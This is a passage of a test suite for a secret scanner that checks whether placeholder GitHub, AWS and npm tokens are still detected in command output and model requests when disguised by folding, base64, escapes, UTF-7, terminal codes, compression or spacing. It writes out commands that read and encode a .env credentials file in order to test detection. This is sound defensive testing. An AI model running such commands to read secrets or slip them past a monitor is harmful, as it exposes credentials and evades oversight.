    !/^AKIA true base64 -w (12 (after a label|a JSON field|a JSON string in a JSON string)|15 .*): 0$/
      .test(w) &&
    !/^AKIA false fold -w 2 .*: 0$/.test(w)
  );
  assert.deepEqual(left, []);
  assert.ok(wrong.length <= 18, `${wrong.length} left: ${wrong.join(", ")}`);
});

Deno.test("a long block of narrow lines (a file's base64 in lines of eight, a long text folded) is read whole: a token at its end is found once", () => {
  let seed = 3;
  const random = () => (seed = (Math.imul(seed, 1103515245) + 12345) >>> 0) / 2 ** 32;
  const A = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
  const noise = Array.from({ length: 6000 }, () => A[Math.floor(random() * 62)]).join("");
  const lines = (s: string, w: number) => s.match(new RegExp(`.{1,${w}}`, "gs"))!.join("\n");
  for (
    const text of [
      lines(btoa(`${noise}\nTOKEN=${GH}\n`), 8),
      lines(`${noise}${GH}`, 5) + "\nok",
      JSON.stringify({ content: `$ fold -w 5 notes\n${lines(`${noise}${NPM}`, 5)}\n` }),
    ]
  ) assert.equal(findSecrets(text).length, 1, text.slice(-80));
});

/**
 * Where no secret is found in each of `outputs` (a command's output, by the command) after
 * lines of every length up to the probes' stride and past it (each alignment of its lines
 * to the survey's probes), as written and in a model request.
 */
function missedAtAlignments(outputs: Record<string, string>): string[] {
  const missed: string[] = [];
  for (const [command, output] of Object.entries(outputs)) {
    for (let a = 0; a < 30; a++) {
      const written = `${"#".repeat(a)}\n$ ${command}\n${output}`;
      const request = JSON.stringify({
        messages: [{ role: "user", content: [{ type: "tool_result", content: written }] }],
      });
      if (findSecrets(written).length === 0) missed.push(`${command} after ${a}`);
      if (findSecrets(request).length === 0) missed.push(`${command} after ${a}, in a request`);
    }
  }
  return missed;
}

Deno.test("a .env cut into narrow lines and shown with each line's number or quoted (`fold -w 5 .env | cat -n`, `base64 -w 8 .env | sed 's/^/> /'`) is found at every alignment, as written and in a model request", () => {
  const env = `DEBUG=1\nGITHUB_TOKEN=${GH}\nPORT=8080\n`;
  const b64 = (s: string, w: number) => btoa(s).match(new RegExp(`.{1,${w}}`, "g"))!.join("\n");
  const lines = (s: string) => s.replace(/\n$/, "").split("\n");
  const numbered = (s: string) =>
    lines(s).map((l, i) => `${String(i + 1).padStart(6)}\t${l}`).join("\n") + "\n";
  const quoted = (s: string) => lines(s).map((l) => `> ${l}`).join("\n") + "\n";
  const outputs: Record<string, string> = {
    "fold -w 5 .env | cat -n": numbered(foldOf(env, 5)),
    "fold -w 2 .env | cat -n": numbered(foldOf(env, 2)),
    "base64 -w 4 .env | cat -n": numbered(b64(env, 4)),
    "fold -w 3 .env | sed 's/^/> /'": quoted(foldOf(env, 3)),
    "base64 -w 8 .env | sed 's/^/> /'": quoted(b64(env, 8)),
  };
  const missed = missedAtAlignments(outputs);
  // In a request, `cat -n`'s lines of `fold -w 5` are 15 characters with their prefix
  // and their break (`     1\\t` and `\\n` escaped): at three alignments of 30 the
  // probes that met the block all fell on its prefixes, until a probe in a line's number
  // or the spaces before it read on past its tab. (With the probes every 30 characters,
  // 74 of these 300 were missed.)
  assert.deepEqual(missed, []);
});

Deno.test("a file whose lines hold spaces, quotes or brackets, cut into narrow lines (`fold -w 2` to `-w 15` of AWS credentials, a JSON file, YAML), is read whole: the AWS secret key, which has no prefix, is found by its label", () => {
  const secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYz3Kq8Lw2Rt";
  const files: Record<string, string> = {
    credentials: `[default]\naws_access_key_id = ${AWS}\naws_secret_access_key = ${secret}\n`,
    json: JSON.stringify({ aws_secret_access_key: secret, region: "eu-west-1" }, null, 2) + "\n",
    yaml: `aws:\n  secret_access_key: ${secret}\n`,
  };
  for (const [name, file] of Object.entries(files)) {
    for (const w of [2, 3, 4, 5, 6, 7, 8, 10, 12, 15]) {
      const output = foldOf(file, w);
      const request = JSON.stringify({
        messages: [{ role: "user", content: [{ type: "tool_result", content: output }] }],
      });
      for (const text of [output, request]) {
        const rules = findSecrets(text).map((f) => f.rule);
        // The credentials' two lines run on into each other where the first ends at a
        // cut (its 40 characters at widths that divide 40): the key's ID, glued to the
        // label after it, hides the label's start. One of the two is found.
        if (name === "credentials") assert.ok(rules.length > 0, `${name} -w ${w}: ${text}`);
        else assert.deepEqual(rules, ["aws-secret-access-key"], `${name} -w ${w}: ${text}`);
      }
    }
  }
});

Deno.test("ordinary narrow lines (a column of numbers, words one a line, short hashes, a config cut short) are no finding", () => {
  const texts = [
    Array.from({ length: 40 }, (_, i) => String(1000 + i * 37)).join("\n"),
    "alpha\nbravo\ncharl\ndelta\necho1\nfoxtr\ngolf2\nhotel\n",
    Array.from({ length: 20 }, (_, i) => (0x5f3759df * (i + 1) >>> 0).toString(16).padStart(8, "0"))
      .join("\n"),
    "tokens:\nabc123\ndef456\nghi789\njkl012\n",
    "key:\na1b2c3d4\ne5f6a7b8\nc9d0e1f2\n",
    "api_key=\nabc123\ndef456\nghi789\njkl012\n",
    "export TOKEN=\nabc123\ndef456\nghi789\n",
    "password\n=\nvalue\n",
    "-----\n-----\n-----\n",
    "id=1\nid=2\nid=3\nid=4\n",
  ];
  for (const text of texts) {
    for (const t of [text, JSON.stringify({ content: text })]) assert.deepEqual(found(t), [], t);
  }
});

Deno.test("escapes cut into lines (`fold -w 16` of a percent-encoded token, a column of `\\x67` escapes) are decoded joined: each form, width, line break and prefix, as written and in a model request", () => {
  const code = (c: string) => c.charCodeAt(0).toString(16).padStart(2, "0");
  const forms: Record<string, (s: string) => string> = {
    percent: (s) => [...s].map((c) => "%" + code(c)).join(""),
    "percent, capitals": (s) => [...s].map((c) => "%" + code(c).toUpperCase()).join(""),
    "\\x": (s) => [...s].map((c) => "\\x" + code(c)).join(""),
    "\\u": (s) => [...s].map((c) => "\\u00" + code(c)).join(""),
    octal: (s) => [...s].map((c) => "\\" + c.charCodeAt(0).toString(8).padStart(3, "0")).join(""),
    "&#x": (s) => [...s].map((c) => "&#x" + code(c) + ";").join(""),
    "&#": (s) => [...s].map((c) => "&#" + c.charCodeAt(0) + ";").join(""),
  };
  // Each line after the first starts with what follows the line break.
  const breaks = ["\n", "\r\n", "\n    ", "\n\t", "\ndata: ", "\n> "];
  const missed: string[] = [];
  for (const [token, widths] of [[GH, [5, 8, 13, 76]], [AWS, [16]]] as const) {
    for (const [name, encode] of Object.entries(forms)) {
      for (const written of [token, `TOKEN=${token}`]) {
        const encoded = encode(written);
        for (const width of widths) {
          for (const brk of breaks) {
            const first = brk.slice(brk.lastIndexOf("\n") + 1);
            const text = first + encoded.match(new RegExp(`.{1,${width}}`, "g"))!.join(brk);
            const request = JSON.stringify({
              messages: [{ role: "user", content: `$ cat x\n${text}\n` }],
            });
            for (const [where, body] of [["as written", text], ["in a request", request]]) {
              if (findSecrets(body!).length === 0) {
                missed.push(
                  `${name} of ${written.slice(0, 6)}, ${width} wide, ${
                    JSON.stringify(brk)
                  }, ${where}`,
                );
              }
            }
          }
        }
      }
    }
  }
  assert.deepEqual(missed, []);
});

Deno.test("joinBrokenEscapes() takes out only line breaks inside a run of escapes, and a prefix each of its lines starts with", () => {
  assert.equal(joinBrokenEscapes("%67%6\n8%70", PERCENT_ESCAPES), "%67%68%70");
  assert.equal(joinBrokenEscapes("%67%68\n%70", PERCENT_ESCAPES), "%67%68%70");
  // `data: ` after the line break reads as the rest of an escape (`%da`) but is the
  // prefix the line before starts with too.
  assert.equal(joinBrokenEscapes("data: %67%\ndata: 68%70", PERCENT_ESCAPES), "data: %67%68%70");
  assert.equal(joinBrokenEscapes('"x: %67%6\\n  8%70"', PERCENT_ESCAPES), '"x: %67%68%70"');
  assert.equal(joinBrokenEscapes("\\x67\\x6\n8", CODE_ESCAPES), "\\x67\\x68");
  assert.equal(joinBrokenEscapes("\\14\n7", CODE_ESCAPES), "\\147");
  assert.equal(joinBrokenEscapes("&#x67;&#x\n68;", HTML_ESCAPES), "&#x67;&#x68;");
  // Line breaks next to anything else stay.
  for (
    const text of [
      "a%20b\nnext line",
      "width: 100%\nheight: 50%",
      "printf '\\x41'\necho done",
      "%41\nxyz",
      "&amp;\n&lt;",
    ]
  ) {
    for (const kind of [PERCENT_ESCAPES, CODE_ESCAPES, HTML_ESCAPES]) {
      assert.equal(joinBrokenEscapes(text, kind), text, text);
    }
  }
});

Deno.test("a token whose prefix a line break cuts (`fold -w 16` of `SERVICE_AUTH=ghp_...`: `...=ghp`, then `_Zq8L...`) is found in lines of 16 or more, as written, in a model request and after a prefix", () => {
  const missed: string[] = [];
  for (const token of [GH, NPM, AWS, ANT, FINE_GRAINED]) {
    const prefix = /^[a-z]+[_-]|^[A-Z0-9]{4}/.exec(token)![0];
    for (let k = 1; k < prefix.length; k++) {
      for (const width of [16, 20, 40]) {
        // The label fills the first line up to the cut.
        const label = "A".repeat(width - k - 1) + "=";
        const lines = `${label}${token}`.match(new RegExp(`.{1,${width}}`, "g"))!;
        for (const before of ["", "data: ", "  "]) {
          const text = `${lines.map((l) => before + l).join("\n")}\nok\n`;
          const request = JSON.stringify({ messages: [{ role: "user", content: text }] });
          for (const [where, body] of [["as written", text], ["in a request", request]]) {
            if (findSecrets(body!).length === 0) {
              missed.push(
                `${token.slice(0, 6)} cut after ${k}, ${width} wide, ${
                  JSON.stringify(before)
                }, ${where}`,
              );
            }
          }
        }
      }
    }
  }
  assert.deepEqual(missed, []);
  // A line's last word that starts no token's prefix with the next line is glued on to
  // nothing: base64 lines after a word are read as before.
  const env = btoa(`TOKEN=${GH}\n`).match(/.{1,16}/g)!.join("\n");
  assert.ok(found(`key: abc\n${env}\n`).includes("base64:github-token"));
});

Deno.test("a token in UTF-7 (`iconv -t UTF-7`: `ghp+AF8-Zq8L...`, a `.env`'s `=` as `+AD0-`) is found and said to be in UTF-7, as written and in a model request; code's plus signs are none", () => {
  const stripe = "sk_" + "live_" + "4eC39HqLyjWDarjtT1zdp7dcXk2Lm9Pq";
  const awsSecret = "wJalrXUtnFEMI/K7MDENG+bPxRfi" + "CYq8Lw2Rt5Vx";
  const texts: [string, string][] = [GH, NPM, FINE_GRAINED, stripe].flatMap((
    token,
  ): [string, string][] => [
    [token, `${token} `],
    [token, `GITHUB_TOKEN=${token}\nDEBUG=1\n`],
  ]).concat([[awsSecret, `AWS_SECRET_ACCESS_KEY=${awsSecret}\n`]]);
  for (const [token, text] of texts) {
    {
      const written = utf7Of(text);
      assert.ok(!written.includes(token), written);
      const request = JSON.stringify({
        messages: [{ role: "user", content: `$ iconv -t UTF-7 .env\n${written}\n` }],
      });
      for (const where of [written, request]) {
        const f = findSecrets(where);
        assert.ok(
          f.length > 0 && f.every((x) => x.encoding === "utf7"),
          `${where}: ${found(where)}`,
        );
      }
    }
  }
  assert.equal(howWritten("utf7"), "in UTF-7");
  // Plus signs of code and of prose shift nothing a token is made of.
  assertNoneFound([
    `const total = a+b+c; i++; x += 1; "ghp" + "_" + name`,
    "C++ and c+AF8 at last",
    "+AF8-",
  ]);
});

Deno.test("a token coloured by a terminal's escape sequences (`grep --color=always ghp_`, `bat`, a colour a character, an OSC 8 link, junk the cursor moves back over) is found, as written and in a model request", () => {
  const E = "\x1b";
  const body = GH.slice(4);
  const texts = [
    `config.env:GITHUB_TOKEN=${E}[01;31m${E}[Kghp_${E}[m${E}[K${body}`,
    `x=${GH.slice(0, 8)}${E}[01;31m${E}[K${GH.slice(8, 12)}${E}[m${E}[K${GH.slice(12)}`,
    [...GH].map((c, i) => `${E}[3${i % 8}m${c}`).join("") + `${E}[0m`,
    `${E}[38;5;231mGITHUB_TOKEN${E}[0m${E}[38;5;203m=${E}[0m${E}[38;5;186m${GH}${E}[0m`,
    `${E}]8;;https://x.example/${E}\\${GH.slice(0, 10)}${E}]8;;${E}\\${GH.slice(10)}`,
    // Junk inside it, the cursor then moved back over it (`ESC [ 4 D`).
    `${GH.slice(0, 8)}!@#$%^&*()${E}[10D${GH.slice(8)}`,
  ];
  for (const text of texts) {
    for (const where of [text, JSON.stringify({ messages: [{ role: "user", content: text }] })]) {
      assert.deepEqual(found(where), ["normalized:github-token"], JSON.stringify(where));
    }
  }
  // Colour around words is no secret.
  assertNoneFound([`${E}[1;32mok${E}[0m 12 passed; ${E}[31mfailed${E}[0m: 0`]);
});

Deno.test("a token overstruck with backspaces (`man`'s bold `g\\bg` and underline `_\\bg`, junk backspaced over inside it) is one finding, as written and in a model request (where a backspace is `\\b`)", () => {
  const texts = [
    [...GH].map((c) => `${c}\b${c}`).join(""),
    [...GH].map((c) => `_\b${c}`).join(""),
    [...GH].map((c) => `x\b${c}`).join(""),
    `${GH.slice(0, 8)}JUNK\b\b\b\b${GH.slice(8)}`,
  ];
  for (const text of texts) {
    for (const where of [text, JSON.stringify({ messages: [{ role: "user", content: text }] })]) {
      assert.deepEqual(found(where), ["normalized:github-token"], JSON.stringify(where));
    }
  }
  // A regex's word boundary in code in a JSON string (`\\b`) is no backspace.
  assertNoneFound([JSON.stringify({ content: `const re = /\\bghp_\\b/; // ${"x".repeat(40)}` })]);
});

Deno.test("a .env cut into narrow lines and shown with each line's number as it comes (`grep -n ''`, `awk '{print NR\": \"$0}'`, `nl -w1`), the prefix a place wider from line 10 and from line 100, is found at every alignment, as written and in a model request", () => {
  const env = `DEBUG=1\nGITHUB_TOKEN=${GH}\nPORT=8080\n`;
  // The token from line 92 on, over line 100.
  const long = `${"# a line of notes\n".repeat(20)}${env}`;
  const b64 = (s: string, w: number) => btoa(s).match(new RegExp(`.{1,${w}}`, "g"))!.join("\n");
  const numbered = (s: string, mark: string, prefix = "") =>
    s.replace(/\n$/, "").split("\n").map((l, i) => `${prefix}${i + 1}${mark}${l}`).join("\n") +
    "\n";
  const outputs: Record<string, string> = {
    "fold -w 5 .env | grep -n ''": numbered(foldOf(env, 5), ":"),
    "base64 -w 8 .env | grep -n ''": numbered(b64(env, 8), ":"),
    "fold -w 4 .env | awk '{print NR\": \"$0}'": numbered(foldOf(env, 4), ": "),
    "fold -w 3 .env | nl -w1": numbered(foldOf(env, 3), "\t"),
    "fold -w 5 .env | grep -n . | sed 's/^/> /'": numbered(foldOf(env, 5), ":", "> "),
    "fold -w 4 notes | grep -n ''": numbered(foldOf(long, 4), ":"),
    "base64 -w 4 notes | grep -n ''": numbered(b64(long, 4), ":"),
  };
  const missed = missedAtAlignments(outputs);
  // Before a colon after a line's number ended a prefix, and a block's lines went on a
  // place further where the number gained a digit, all 420 were missed.
  assert.deepEqual(missed, []);
});

Deno.test("a token's base64 with a short word joined before or after it as a group (`word,<base64>,word`, a tab or a space apart) or a name's line above it is found, once", () => {
  // What such a word decodes to, read at its alignment, may end in a letter: glued on to
  // the token, its rule had seen none (18 of the 216 groups below, 4 of the 15 lines).
  const words = ["expo", "constr", "data", "switc", "definePro", "x1"];
  const tails = ["eStream", "ntInfo", ""];
  for (const token of [GH, ANT, AWS, FINE_GRAINED]) {
    for (const separator of [",", "\t", " "]) {
      for (const word of words) {
        for (const tail of tails) {
          const text = `${word}${separator}${btoa(token)}${tail && separator + tail}`;
          const got = found(text);
          assert.equal(got.length, 1, `${text}: ${got}`);
          assert.match(got[0]!, /^base64:/, text);
        }
      }
    }
  }
  for (const token of [GH, NPM, ANT, AWS, FINE_GRAINED]) {
    for (
      const name of ["redirectToAuthorizati", "getOwnPropertyDescri", "ElicitRequestFormParams"]
    ) {
      const text = `    ${name}\n${btoa(token)}\nvoid | Promise<void>;\n`;
      assert.equal(found(text).length, 1, text);
    }
  }
});

Deno.test("a key ID whose base64 holds no digit, `+` or `/` (letters and its padding alone) is found, as written, without its padding, in a line of its own, turned around and in a model request", () => {
  const id = "AK" + "IARLFRVAGNF3TB2LJB";
  const b64 = btoa(id);
  // The premise: base64 of capitals and digits may be letters alone.
  assert.match(b64, /^[A-Za-z]+=$/);
  for (
    const text of [
      b64,
      `x ${b64} y`,
      `extends \`${b64}\`.js`,
      `Err\n${b64}\n {`,
      // URL-safe, no padding: letters alone.
      `Bearer ${b64url(id)}`,
      `?k=${b64url(id)}&a=1`,
      `(${b64url(id)})r`,
      reversedOf(b64),
      JSON.stringify({ messages: [{ role: "user", content: `key: ${b64}` }] }),
    ]
  ) {
    const got = found(text);
    assert.equal(got.length, 1, `${text}: ${got}`);
    assert.match(got[0]!, /base64:aws-access-key-id$/, text);
  }
  // A long name in both cases before an `=` is still no base64 of text.
  assertNoneFound(["this.someLongPropertyNameHere=value;", "const aVeryLongCamelCaseName = 1"]);
});

Deno.test("base64 in lines that each start with one prefix is found when its first line holds more before the prefix (the block glued on after other text), as written and in a model request", () => {
  const lines = (s: string) => s.match(/.{1,24}/g)!;
  for (const token of [GH, AWS]) {
    const block = lines(btoa(`TOKEN=${token}\n`)).map((l) => `data: ${l}`).join("\n");
    for (const lead of ["x ", `${"a".repeat(40)}(`, "  foo(); "]) {
      const text = `const a = 1;\n${lead}${block} y\nconst b = 2;`;
      for (const where of [text, JSON.stringify({ messages: [{ role: "user", content: text }] })]) {
        assert.deepEqual(
          found(where),
          [`base64:${token === GH ? "github-token" : "aws-access-key-id"}`],
          where,
        );
      }
    }
  }
});

Deno.test("gzip or zstd in wrapped base64 below a line that ends in a long name (joined on to its first line), and a hex dump glued on after a word, are found (gzip and the dump once), as written and in a model request", () => {
  const gz = b64bytes(gzipSync(new TextEncoder().encode(`TOKEN=${GH}\nX=1\n`)), true);
  const zst = btoa(
    String.fromCharCode(...zstdCompressSync(new TextEncoder().encode(`id=${AWS}\n`))),
  )
    .replace(/(.{40})/g, "$1\n");
  const xxd = (s: string) => xxdLines(new TextEncoder().encode(s)).join("\n");
  const cases: [string, string][] = [
    [`  if (type === COMPRESSIBLE_CONTENT_T\n${gz}\n`, "gzip:github-token"],
    [`async function executeTokenRequest(authorizationServer\n${zst}\n`, "zstd:aws-access-key-id"],
    [`  readLink = exports2.rea ${xxd(`TOKEN=${GH}\n`)} ables();`, "hexdump:github-token"],
  ];
  for (const [text, expected] of cases) {
    for (const where of [text, JSON.stringify({ messages: [{ role: "user", content: text }] })]) {
      // (zstd keeps a short text's bytes as they are: its base64 shows them too, read from
      // the block's first line.)
      const got = found(where);
      if (expected.startsWith("zstd")) assert.ok(got.includes(expected), where);
      else assert.deepEqual(got, [expected], where);
    }
  }
});

Deno.test("a token spaced out, then a word after it (`A K I A ... J A and more`), is found: the reading that took the word's first letter as a cell is read without it too", () => {
  const spaced = (s: string) => [...s].join(" ");
  for (const token of [AWS, GH]) {
    for (const after of [" and more", " ing));", " ab"]) {
      const text = `x ${spaced(token)}${after}`;
      for (const where of [text, JSON.stringify({ messages: [{ role: "user", content: text }] })]) {
        assert.ok(
          found(where).some((f) =>
            f.endsWith(token === AWS ? "aws-access-key-id" : "github-token")
          ),
          where,
        );
      }
    }
  }
});
